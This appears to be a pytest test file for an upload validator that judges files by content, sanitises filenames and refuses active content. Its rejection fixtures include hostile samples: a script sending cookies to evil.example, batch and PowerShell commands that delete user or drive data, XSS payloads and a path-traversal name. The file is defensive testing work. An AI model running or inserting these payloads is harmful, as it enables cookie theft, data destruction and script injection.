"""filestore.validation.validate_upload: files are judged by their content, not their names."""

import pytest

from config.errors import HallError
from filestore.services import validate_upload
from filestore.validation import ALLOWED_TYPES, SERVED_TYPES, display_filename, safe_filename, served_file
from tests.filestore.samples import (
    docx_bytes,
    image_bytes,
    ole_bytes,
    ooxml_bytes,
    pdf_bytes,
    pptx_bytes,
    upload,
    xlsx_bytes,
)

OOXML = "application/vnd.openxmlformats-officedocument"


@pytest.mark.parametrize(
    ("name", "make", "content_type", "safe_name"),
    [
        ("起诉材料.pdf", pdf_bytes, "application/pdf", "起诉材料.pdf"),
        ("现场照片.jpeg", lambda: image_bytes("JPEG"), "image/jpeg", "现场照片.jpeg"),
        ("现场照片.png", lambda: image_bytes("PNG"), "image/png", "现场照片.png"),
        ("动图.gif", lambda: image_bytes("GIF"), "image/gif", "动图.gif"),
        ("截图.webp", lambda: image_bytes("WEBP"), "image/webp", "截图.webp"),
        ("情况说明.docx", docx_bytes, f"{OOXML}.wordprocessingml.document", "情况说明.docx"),
        ("费用清单.xlsx", xlsx_bytes, f"{OOXML}.spreadsheetml.sheet", "费用清单.xlsx"),
        ("汇报.pptx", pptx_bytes, f"{OOXML}.presentationml.presentation", "汇报.pptx"),
        ("旧文档.doc", lambda: ole_bytes("WordDocument"), "application/msword", "旧文档.doc"),
        ("旧表格.xls", lambda: ole_bytes("Workbook"), "application/vnd.ms-excel", "旧表格.xls"),
        (
            "说明.txt",
            lambda: "小区门口长期占道经营。\r\n请求处理。".encode(),
            "text/plain; charset=utf-8",
            "说明.txt",
        ),
        (
            "说明.txt",
            lambda: "小区门口长期占道经营。".encode("gbk"),
            "text/plain; charset=gb18030",
            "说明.txt",
        ),
    ],
)
def test_each_allowed_type_is_accepted_by_its_content(settings, name, make, content_type, safe_name):
    data = make()
    checked = validate_upload(upload(name, data, content_type="application/x-whatever"))
    assert checked.content_type == content_type
    assert checked.safe_name == safe_name
    assert checked.original_name == name
    assert checked.size == len(data)


def test_the_detected_type_decides_the_extension_not_the_name():
    checked = validate_upload(upload("photo.pdf", image_bytes("PNG"), "application/pdf"))
    assert checked.content_type == "image/png"
    assert checked.safe_name == "photo.png"


def assert_rejected(name: str, data: bytes, reason: str = "type") -> HallError:
    with pytest.raises(HallError) as info:
        validate_upload(upload(name, data))
    error = info.value
    assert error.code == "upload_rejected"
    assert error.details["reason"] == reason
    assert f"“{name}”" in str(error)
    return error


def test_an_executable_renamed_pdf_is_rejected():
    executable = (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + b"PE\x00\x00" + bytes(200)
    )
    error = assert_rejected("起诉材料.pdf", executable)
    # The message says what is allowed.
    assert "PDF" in str(error) and "docx" in str(error) and "txt" in str(error)


def test_an_elf_binary_renamed_txt_is_rejected():
    assert_rejected("notes.txt", b"\x7fELF\x02\x01\x01\x00" + bytes(120))


def test_an_html_file_named_txt_is_rejected():
    assert_rejected(
        "说明.txt", "<!DOCTYPE html><html><body><script>alert(1)</script>说明</body></html>".encode()
    )


def test_an_svg_named_png_is_rejected():
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
    assert_rejected("图.png", svg)


def test_a_zip_that_is_not_ooxml_is_rejected():
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "hello")
    assert_rejected("材料.docx", buffer.getvalue())


def test_a_macro_enabled_word_file_is_rejected():
    docm = ooxml_bytes(
        "word/document.xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        {"word/vbaProject.bin": b"\x00" * 16},
    )
    assert_rejected("材料.docx", docm)


def test_an_ole_file_that_is_neither_word_nor_excel_is_rejected():
    # An .msi installer is an OLE compound file too.
    assert_rejected("setup.doc", ole_bytes("SummaryInformation"))


def test_binary_noise_is_not_taken_for_text():
    assert_rejected("data.txt", bytes(range(256)) * 4)


def test_an_oversize_file_is_rejected_with_the_limit_in_megabytes(settings):
    settings.HALL_UPLOAD_MAX_BYTES = 2 * 1024 * 1024
    error = assert_rejected("大文件.pdf", pdf_bytes() + b"\n%" + b"x" * (2 * 1024 * 1024), reason="too_large")
    assert "2 MB" in str(error)
    assert error.details["limit_bytes"] == 2 * 1024 * 1024


def test_the_size_limit_is_named_in_english_too(settings):
    from django.utils import translation

    settings.HALL_UPLOAD_MAX_BYTES = 1024 * 1024
    with translation.override("en"), pytest.raises(HallError) as info:
        validate_upload(upload("big.pdf", b"%PDF-1.4\n" + b"x" * (1024 * 1024)))
    assert "1 MB" in str(info.value)


def test_an_empty_file_is_rejected():
    assert_rejected("空.pdf", b"", reason="empty")


@pytest.mark.parametrize(
    ("original", "extension", "expected"),
    [
        ("../../etc/passwd.pdf", "pdf", "passwd.pdf"),
        ("C:\\Users\\张三\\材料 清单.PDF", "pdf", "材料_清单.pdf"),
        ("a\x00b\nc\u202e.txt", "txt", "abc.txt"),
        ("<script>.png", "png", "script.png"),
        ("（）.pdf", "pdf", "file.pdf"),
        ("...", "pdf", "file.pdf"),
        ("photo.jpeg", "jpg", "photo.jpeg"),
        ("photo.exe", "jpg", "photo.jpg"),
        ("no extension", "docx", "no_extension.docx"),
    ],
)
def test_safe_names_strip_paths_and_controls_and_keep_chinese(original, extension, expected):
    assert safe_filename(original, extension) == expected


def test_long_names_are_capped_in_bytes():
    name = safe_filename("信" * 300 + ".pdf", "pdf")
    assert name.endswith(".pdf")
    assert len(name.encode()) <= 160
    assert set(name[:-4]) == {"信"}


# --- The name never decides the type; what the content is not, is refused -----------------------------


def jpeg_named_html():
    return upload("img.html", image_bytes("JPEG"), "text/html")


def test_a_jpeg_named_html_is_stored_and_shown_as_jpg():
    checked = validate_upload(jpeg_named_html())
    assert checked.content_type == "image/jpeg"
    assert checked.safe_name == "img.jpg"
    assert checked.display_name == "img.jpg"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("x.js", b"document.location='https://evil.example/?c='+document.cookie;\n"),
        ("run.bat", b"@echo off\r\ndel /q C:\\Users\\*\r\n"),
        ("a.svg", "只是几行文字，并不是图片。".encode()),
        ("page.HTM", b"plain words under a web page's name"),
        ("setup.ps1", b"Remove-Item -Recurse C:\\"),
    ],
)
def test_text_under_a_script_or_page_name_is_refused(name, data):
    error = assert_rejected(name, data, reason="script_name")
    assert ".txt" in str(error) and "PDF" in str(error) and "docx" in str(error)


@pytest.mark.parametrize("name", ["说明.txt", "说明.TEXT", "记录.csv", "说明", "关于10.1事件", "报告.2024"])
def test_text_under_a_text_name_or_none_is_accepted_as_txt(name):
    checked = validate_upload(upload(name, "小区门口长期占道经营。".encode()))
    assert checked.content_type == "text/plain; charset=utf-8"
    assert checked.safe_name.endswith((".txt", ".text"))


def test_an_exe_by_its_mz_header_is_refused_whatever_it_is_called():
    executable = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + b"PE\x00\x00"
    for name in ("setup.exe", "照片.jpg", "说明.txt"):
        assert_rejected(name, executable + bytes(200))


def test_an_html_file_named_pdf_is_refused():
    assert_rejected("起诉材料.pdf", b"<html><body><script>alert(document.cookie)</script></body></html>")


@pytest.mark.parametrize(
    "data",
    [
        # Text a browser sniffs as HTML, though none of the usual page tags come first.
        b"  <p>Dear sir</p><img src=x onerror=alert(1)>",
        b"\xef\xbb\xbf<div>...</div>",
        b"<!-- note --><a href='javascript:alert(1)'>x</a>",
    ],
)
def test_text_that_sniffs_as_html_is_refused(data):
    assert_rejected("说明.txt", data)


def test_a_pdf_html_polyglot_is_refused():
    pdf = pdf_bytes()
    # HTML first, the PDF after it (PDF readers look for %PDF in the first kilobyte).
    assert_rejected("材料.pdf", b"<html><script>alert(1)</script></html>\n" + pdf)
    # A real PDF header with a page after it: a browser that sniffs, or a user who renames it, gets HTML.
    error = assert_rejected(
        "材料.pdf", pdf[:9] + b"<html><body><script>alert(1)</script></body></html>\n" + pdf[9:], "markup"
    )
    assert "PDF" in str(error)


def test_an_image_carrying_script_markup_is_refused():
    assert_rejected("照片.jpg", image_bytes("JPEG") + b"<script>alert(1)</script>", "markup")


def test_a_real_svg_is_refused_whatever_it_is_called():
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    for name in ("a.svg", "a.png", "a.txt"):
        assert_rejected(name, svg)


def test_the_refusal_lists_what_is_allowed_in_english():
    from django.utils import translation

    with translation.override("en"), pytest.raises(HallError) as info:
        validate_upload(upload("x.js", b"alert(1)"))
    message = str(info.value)
    assert "“x.js”" in message and "script" in message
    assert "PDF, images (JPEG, PNG, GIF, WebP), Word (doc, docx)" in message


@pytest.mark.parametrize(
    ("original", "extension", "expected"),
    [
        ("img.html", "jpg", "img.jpg"),
        ("C:\\fakepath\\起诉 材料.PDF", "pdf", "起诉 材料.pdf"),
        ("../../现场照片.jpeg", "jpg", "现场照片.jpeg"),
        ("evil\u202egpj.exe", "png", "evilgpj.png"),
        ("run\x00.bat\n", "txt", "run.txt"),
        ("  ", "pdf", "file.pdf"),
        ("关于10.1事件", "txt", "关于10.1事件.txt"),
    ],
)
def test_display_names_keep_the_words_and_take_the_detected_extension(original, extension, expected):
    assert display_filename(original, extension) == expected


@pytest.mark.parametrize(
    ("key", "filename", "served"),
    [
        ("public/attachments/2026/ab/img.jpg", "img.html", ("img.jpg", "image/jpeg")),
        ("gaj/documents/2026/ab/照片.jpeg", "照片.jpeg", ("照片.jpeg", "image/jpeg")),
        ("gaj/documents/2026/ab/说明.txt", "说明.js", ("说明.txt", "text/plain")),
        ("gaj/documents/2026/ab/a.docx", "a.docx", ("a.docx", ALLOWED_TYPES["docx"])),
        # Keys outside the allow-list (none are written any more) never go out as what they claim.
        ("gaj/documents/2026/ab/page.html", "page.html", ("page.bin", "application/octet-stream")),
        ("gaj/documents/2026/ab/a.svg", "a.svg", ("a.bin", "application/octet-stream")),
        ("gaj/documents/2026/ab/run", "run.bat", ("run.bin", "application/octet-stream")),
    ],
)
def test_the_served_type_and_extension_follow_the_key(key, filename, served):
    result = served_file(key, filename=filename)
    assert (result.filename, result.content_type) == served


def test_nothing_on_the_allow_list_is_active_content():
    for content_type in SERVED_TYPES.values():
        assert "html" not in content_type and "svg" not in content_type
        assert "script" not in content_type and "xml" != content_type.rpartition("/")[2]
        assert content_type.partition("/")[0] in ("application", "image", "text")
